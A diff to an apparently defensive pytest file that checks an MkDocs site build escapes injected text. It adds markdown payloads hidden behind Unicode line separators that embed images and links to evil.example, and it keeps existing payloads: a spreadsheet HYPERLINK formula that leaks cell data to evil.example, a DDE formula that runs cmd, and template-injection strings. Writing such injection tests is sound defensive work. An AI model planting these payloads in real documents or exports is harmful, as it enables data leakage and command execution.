@@ -44,6 +44,8 @@ PAYLOADS = [
     "Place\n\n# Heading",
     "{{ 7*7 }}",
     "{% raw %}",
+    "Claim\u2028---\u2028# Heading\u2028![x](https://evil.example/x.png)",
+    "Claim\u2029\u2029![y](//evil.example/y.png)\r\n\r\n<https://evil.example/z>",
     '=HYPERLINK("http://evil.example/?leak="&A1,"click")',
     '@SUM(1+1)*cmd|" /C calc"!A0',
 ]
@@ -56,19 +58,26 @@ def code(index: int) -> str:
     return "X" + "ABCDEFGHIJKLMNOPQRSTUVWXYZ"[index]
 
 
+def one_line(text: str) -> str:
+    """A payload as a name, alias or place may hold it: line breaks are refused there."""
+    return " ".join(text.splitlines())
+
+
 def injected_facts() -> dict[str, list[dict[str, object]]]:
-    """A country, an event and a fact per payload, the payload in each of their text fields."""
+    """A country, an event and a fact per payload, the payload in each of their text fields
+    (on one line in names, aliases and places)."""
     source = {"doc": DOC, "quote": QUOTE}
     return {
         "countries": [
-            {"code": code(i), "name": text, "aliases": [text]} for i, text in enumerate(PAYLOADS)
+            {"code": code(i), "name": one_line(text), "aliases": [one_line(text)]}
+            for i, text in enumerate(PAYLOADS)
         ],
         "events": [
             {
                 "id": f"injected-{i}",
-                "name": text,
+                "name": one_line(text),
                 "date": "2014-09-15",
-                "place": text,
+                "place": one_line(text),
                 "countries": [code(i)],
                 "sources": [source],
             }
@@ -90,7 +99,7 @@ def injected_facts() -> dict[str, list[dict[str, object]]]:
 
 def metadata_slots(count: int) -> list[tuple[str, str, str]]:
     """(title, outlet, author) for `count` documents, cycling through every payload."""
-    cycle = [PAYLOADS[i % len(PAYLOADS)] for i in range(3 * max(count, 4))]
+    cycle = [one_line(PAYLOADS[i % len(PAYLOADS)]) for i in range(3 * max(count, 4))]
     return [(cycle[3 * i], cycle[3 * i + 1], cycle[3 * i + 2]) for i in range(count)]
 
 
@@ -144,7 +153,7 @@ def injected_site(tmp_path_factory: pytest.TempPathFactory) -> tuple[Path, dict[
     shutil.copytree(REPO_ROOT / "docs", root / "docs")
     shutil.copy(REPO_ROOT / "mkdocs.yml", root / "mkdocs.yml")
     (root / "facts").mkdir()
-    facts = json.dumps(injected_facts(), ensure_ascii=False, indent=1)
+    facts = json.dumps(injected_facts(), ensure_ascii=True, indent=1)  # LS would end a line
     (root / "facts" / "injected.yml").write_text(facts + "\n", encoding="utf-8")
     sources = write_sources(root / "corpus")
     command = [sys.executable, "-m", "mkdocs", "build", "--strict", "-d", str(root / "site")]
@@ -208,6 +217,7 @@ def test_no_payload_became_markup(injected_site: tuple[Path, dict[str, object]])
         assert "<details open ontoggle" not in html
         assert "<b>bold" not in html
         assert not re.search(r"<h1[^>]*>\s*Heading", html)
+        assert not re.search(r"<[a-z]+\b[^>]*(?:src|href)=\"[^\"]*evil\.example", html)
         assert ">49<" not in html
 
 
